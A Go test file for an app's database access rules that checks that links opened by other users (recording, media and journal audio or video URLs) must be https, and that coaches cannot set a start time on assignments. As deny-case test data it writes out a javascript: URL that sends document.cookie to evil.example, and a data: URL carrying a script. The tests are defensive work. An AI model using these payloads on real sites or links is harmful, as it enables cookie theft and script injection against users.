package rules

import (
	"testing"
	"time"
)

// TestReview9LinksClientsFollowAreHTTPS: meetingUrl must be https, but the
// other links the apps open for other people are any string: the host's
// sessionRecordingUrl (opened by every participant), a coach's activation
// mediaUrl (opened by every user) and a shared entry's log.audioUrl /
// videoUrl (opened by the coach). A javascript:/data: URL or a plain-http
// phishing page passes.
func TestReview9LinksClientsFollowAreHTTPS(t *testing.T) {
	w := newWorld(t)
	js := "javascript:fetch('https://evil.example/?'+document.cookie)"
	for _, c := range []rcase{
		f("host sets sessionRecordingUrl javascript:", coach, update("live_sessions/ls-carol", patch("sessionRecordingUrl", js)), deny),
		f("host sets sessionRecordingUrl http", coach, update("live_sessions/ls-carol", patch("sessionRecordingUrl", "http://evil.example/rec")), deny),
		f("host creates with sessionRecordingUrl data:", coach, create("live_sessions/ls-new",
			with(liveDoc("ls-new"), "sessionRecordingUrl", "data:text/html,<script>alert(1)</script>")), deny),
		f("coach creates activation with mediaUrl javascript:", coach, create("activations/act-new",
			with(activationDoc("act-new"), "mediaUrl", js)), deny),
		f("coach sets mediaUrl javascript:", coach, update("activations/act-carol", patch("mediaUrl", js)), deny),
		// a shared journal entry's media link is opened by the coach
		f("owner shares an entry with a javascript: audioUrl", owner, update("user_activations/ua-shared",
			patch("log.audioUrl", js)), deny),
		// still allowed after the fix
		f("owner sets a gs:// audio reflection", owner, update("user_activations/ua-shared",
			patch("log.audioUrl", "gs://bucket/a.m4a")), allow),
		f("owner sets a bare Storage path", owner, update("user_activations/ua-shared",
			patch("log.videoUrl", "users/alice/journal/v.mp4")), allow),
		f("owner sets a data: video", owner, update("user_activations/ua-shared",
			patch("log.videoUrl", "data:text/html,<script>alert(1)</script>")), deny),
		f("host sets an https recording", coach, update("live_sessions/ls-carol", patch("sessionRecordingUrl", "https://storage.example/rec.mp4")), allow),
		f("coach sets a gs:// media file", coach, update("activations/act-carol", patch("mediaUrl", "gs://bucket/a.mp3")), allow),
	} {
		t.Run(c.name, func(t *testing.T) { w.check(t, c) })
	}
}

// TestReview9CoachSetsStartedAtOnAssignment: an assignment carries no
// journal content (no log, share, feedback, completion), but the coach may
// still set startedAt, the time the user started the activation (the spec's
// "when the user started"), which also orders the user's journal
// (journal_by_date, startedAt desc): a coach can record that the user
// started, or pin assignments to the top of the journal with a far-future
// date.
func TestReview9CoachSetsStartedAtOnAssignment(t *testing.T) {
	w := newWorld(t)
	for _, c := range []rcase{
		f("carol assigns with startedAt in 2099", coach, create("user_activations/ua-assign",
			with(assignmentDoc("ua-assign"), "startedAt", time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC))), deny),
		f("carol assigns with startedAt now", coach, create("user_activations/ua-assign",
			with(assignmentDoc("ua-assign"), "startedAt", reqTime)), deny),
		f("carol assigns (startedAt null)", coach, create("user_activations/ua-assign", assignmentDoc("ua-assign")), allow),
		f("carol assigns (no startedAt)", coach, create("user_activations/ua-assign",
			with(assignmentDoc("ua-assign"), "startedAt", deleteField)), allow),
	} {
		t.Run(c.name, func(t *testing.T) { w.check(t, c) })
	}
}
